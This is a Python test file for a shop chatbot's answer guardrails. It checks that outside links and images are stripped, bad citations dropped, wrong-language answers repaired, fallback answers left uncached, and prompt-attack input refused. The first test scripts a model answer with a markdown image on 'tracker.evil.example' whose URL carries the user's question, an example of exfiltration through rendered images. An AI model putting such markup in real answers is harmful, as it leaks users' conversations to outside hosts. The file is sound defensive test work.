"""The answer checks and the guardrail stops on the real chain: statemachine/chat.asl.json in
the local runtime, the real handlers, the tables emulated. The answer model is the offline one,
told what to reply where a test needs what it never writes (links, a wrong citation, another
language, a guardrail's intervention, a failure); everything around it is real, so a test
sees what the caller gets and what the cache keeps.

An answer that needed a repair, rests on a fallback model, or that a guardrail stopped must
never be cached; one whose links all point at allowed hosts is shown and cached as written.
"""

from __future__ import annotations

from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from unittest import mock

import pytest
from local_api import ask, table_items

from concierge.adapters.llm.offline import OfflineModel
from concierge.adapters.llm.port import ModelReply, ModelRequest
from concierge.errors import ModelThrottledError
from concierge.knowledge import IndexFile
from concierge.models.http import Guardrail
from concierge.prompt_library import in_language, load_prompt
from concierge_cli.local.runtime import LocalRuntime

REPO_ROOT = Path(__file__).resolve().parents[2]
SPANISH_QUESTION = "¿Cuánto cuesta el envío a Austria?"
ENGLISH_ANSWER = (
    "Shipping to Austria costs a flat fee, and it is free for orders over the limit that is "
    "given in the price list of the shop. [1]"
)
SPANISH_ANSWER = (
    "El envío a Austria tiene un precio fijo y es gratis para los pedidos que superan el "
    "importe que se indica en la lista de precios. [1]"
)


def _started(sample_index: tuple[Path, IndexFile], **environ: str) -> LocalRuntime:
    path, index = sample_index
    return LocalRuntime(REPO_ROOT, path, index.kb_version, environ=environ)


@pytest.fixture
def linking_runtime(sample_index: tuple[Path, IndexFile]) -> Iterator[LocalRuntime]:
    """Links and images may point at example.com and its subdomains."""
    with _started(sample_index, CONCIERGE_LINK_HOSTS="example.com") as runtime:
        yield runtime


@pytest.fixture
def fallback_runtime(sample_index: tuple[Path, IndexFile]) -> Iterator[LocalRuntime]:
    """The answer route has a fallback model, tried at once when the primary is unavailable."""
    with _started(
        sample_index, CONCIERGE_ANSWER_FALLBACKS="offline", CONCIERGE_MODEL_ATTEMPTS="1"
    ) as runtime:
        yield runtime


@pytest.fixture
def budgeted_runtime(sample_index: tuple[Path, IndexFile]) -> Iterator[LocalRuntime]:
    """Each request reserves tokens of a daily limit before its first model call."""
    with _started(
        sample_index,
        CONCIERGE_DAILY_TOKEN_LIMIT="100000",
        CONCIERGE_REQUEST_TOKEN_RESERVE="1500",
    ) as runtime:
        yield runtime


@contextmanager
def answer_model_replies(*replies: str | Exception) -> Iterator[list[ModelRequest]]:
    """The answer model replies `replies` in order (an exception is raised), one a call;
    classify and condense stay the offline model's. Yields the answer requests."""
    original = OfflineModel.generate
    script = list(replies)
    requests: list[ModelRequest] = []

    def scripted(self: OfflineModel, request: ModelRequest) -> ModelReply:
        if request.task != "answer":
            return original(self, request)
        requests.append(request)
        reply = script.pop(0)
        if isinstance(reply, Exception):
            raise reply
        return original(self, request).model_copy(update={"text": reply})

    with mock.patch.object(OfflineModel, "generate", scripted):
        yield requests


def asked_twice(runtime: LocalRuntime, question: str) -> list[dict[str, Any]]:
    """Both answers to `question` asked twice (each from a new session): 200s."""
    bodies = []
    for _ in range(2):
        status, body = ask(runtime, question)
        assert status == 200, body
        bodies.append(body)
    return bodies


def test_images_and_links_to_outside_hosts_are_removed_and_the_answer_is_not_cached(
    runtime: LocalRuntime,
) -> None:
    # Given an answer model that adds an image and a link to a host nobody allowed (a
    # rendered image fetches its URL, and the URL can carry the conversation away)
    written = (
        "We sell gear for hiking and camping. [1] See [our catalogue](https://evil.example/c) "
        "![range](https://tracker.evil.example/p.png?q=what+do+you+sell)"
    )

    # When a question is asked twice
    with answer_model_replies(written, written):
        first, second = asked_twice(runtime, "What do you sell?")

    # Then the image goes whole, the link keeps its words, and the citation stays
    assert first["answer"] == "We sell gear for hiking and camping. [1] See our catalogue"
    assert [citation["source"] for citation in first["citations"]] == ["en-product-overview.md"]
    # And the repaired answer is never served from the cache
    assert (first["cached"], second["cached"]) == (False, False)
    assert table_items(runtime, "CacheTable") == []


def test_links_and_images_to_an_allowed_host_or_its_subdomains_are_kept_and_cached(
    linking_runtime: LocalRuntime,
) -> None:
    # Given CONCIERGE_LINK_HOSTS=example.com, and an answer with a link to it and an image on
    # a subdomain of it
    written = (
        "Start a return on [our returns page](https://example.com/returns). [1] "
        "![label](https://help.example.com/label.png)"
    )

    # When a question is asked twice
    with answer_model_replies(written) as requests:
        first, second = asked_twice(linking_runtime, "How do I return an item?")

    # Then the answer is shown as written, and served from the cache the second time
    assert first["answer"] == written
    assert (first["cached"], second["cached"]) == (False, True)
    assert second["answer"] == written
    assert len(requests) == 1


def test_a_marker_pointing_at_no_passage_is_dropped_and_the_answer_is_not_cached(
    runtime: LocalRuntime,
) -> None:
    # Given an answer model that cites a passage it was never given
    written = "We sell gear for hiking and camping. [1] We also sell canoes. [7]"

    # When a question is asked twice
    with answer_model_replies(written, written) as requests:
        first, second = asked_twice(runtime, "What do you sell?")

    # Then the marker without a passage is gone, and only the real passage is cited
    assert len(requests[0].inputs["passages"]) < 7
    assert first["answer"] == "We sell gear for hiking and camping. [1] We also sell canoes."
    assert len(first["citations"]) == 1
    # And that answer is never served from the cache
    assert (first["cached"], second["cached"]) == (False, False)
    assert table_items(runtime, "CacheTable") == []


def test_an_answer_in_another_language_is_asked_for_once_more_and_the_repair_not_cached(
    runtime: LocalRuntime,
) -> None:
    # Given an answer model that answers a Spanish question in English, then in Spanish when
    # asked again
    # When the Spanish question is asked twice
    with answer_model_replies(
        ENGLISH_ANSWER, SPANISH_ANSWER, ENGLISH_ANSWER, SPANISH_ANSWER
    ) as requests:
        first, second = asked_twice(runtime, SPANISH_QUESTION)

    # Then the model was asked once more, for Spanish, and its Spanish answer is shown
    assert 'not written in the language with ISO 639-1 code "es"' in requests[1].prompt
    assert (first["answer"], first["language"]) == (SPANISH_ANSWER, "es")
    assert first["citations"]
    # (two answer calls; classify needed none: the index made the category clear)
    assert first["usage"]["llm_calls"] == 2
    # And the repaired answer is never served from the cache
    assert (first["cached"], second["cached"]) == (False, False)
    assert table_items(runtime, "CacheTable") == []


def test_an_answer_still_in_another_language_becomes_the_no_answer_message(
    runtime: LocalRuntime,
) -> None:
    # Given an answer model that answers a Spanish question in English, even when asked again
    # When the Spanish question is asked
    with answer_model_replies(ENGLISH_ANSWER, ENGLISH_ANSWER) as requests:
        status, body = ask(runtime, SPANISH_QUESTION)

    # Then the caller gets the Spanish no-answer message, and why
    assert status == 200
    assert body["answer"] == in_language(load_prompt("answer").no_answer, "es")
    assert body["citations"] == []
    assert body["guardrail"] == {"action": "blocked", "source": "output", "reasons": ["language"]}
    assert len(requests) == 2
    # And nothing is cached
    assert table_items(runtime, "CacheTable") == []


def test_an_answer_from_a_fallback_model_is_shown_but_not_cached(
    fallback_runtime: LocalRuntime,
) -> None:
    # Given an answer route whose primary model is unavailable for the first request
    original = OfflineModel.generate
    failures = [ModelThrottledError("busy")]
    calls: list[str] = []

    def primary_busy_once(self: OfflineModel, request: ModelRequest) -> ModelReply:
        if request.task == "answer":
            calls.append("answer")
            if failures:
                raise failures.pop()
        return original(self, request)

    # When a question is asked twice
    with mock.patch.object(OfflineModel, "generate", primary_busy_once):
        first, second = asked_twice(fallback_runtime, "What do you sell?")

    # Then the fallback's answer is shown, with its citations
    assert first["citations"]
    assert calls[:2] == ["answer", "answer"]
    # And it is not cached under the primary model's key: the second request is answered again
    assert (first["cached"], second["cached"]) == (False, False)
    assert second["answer"] == first["answer"]


def test_a_guardrail_that_blocks_condense_refuses_the_follow_up_at_no_cost(
    budgeted_runtime: LocalRuntime,
) -> None:
    # Given a session with one answered turn, and a condense model whose guardrail blocks the
    # follow-up
    status, first = ask(budgeted_runtime, "What do you sell?", session_id="guarded")
    assert status == 200, first
    (spent_before,) = table_items(budgeted_runtime, "BudgetTable")
    original = OfflineModel.generate
    calls: list[str] = []

    def guarded(self: OfflineModel, request: ModelRequest) -> ModelReply:
        calls.append(request.task)
        reply = original(self, request)
        if request.task != "condense":
            return reply
        blocked = Guardrail(action="blocked", source="input", reasons=["PROMPT_ATTACK"])
        return reply.model_copy(update={"text": "Blocked.", "guardrail": blocked})

    # When a follow-up is asked in that session
    with mock.patch.object(OfflineModel, "generate", guarded):
        status, body = ask(budgeted_runtime, "Which of them is cheapest?", session_id="guarded")

    # Then it is refused, with the guardrail's intervention, and no answer model is called
    assert status == 200
    assert body["answer"] == in_language(load_prompt("answer").refused, "en")
    assert body["guardrail"] == {
        "action": "blocked",
        "source": "input",
        "reasons": ["PROMPT_ATTACK"],
    }
    assert body["citations"] == []
    assert body["usage"]["llm_calls"] == 0
    assert calls == ["condense"]
    # And its reservation is released: the day's spending is what the first turn spent
    (spent_after,) = table_items(budgeted_runtime, "BudgetTable")
    assert spent_after["tokens"] == spent_before["tokens"]
    assert spent_after["committed_tokens"] == spent_after["tokens"]
    # And the session still holds the first turn only
    turns = table_items(budgeted_runtime, "HistoryTable")
    assert [turn["question"]["S"] for turn in turns] == ["What do you sell?"]
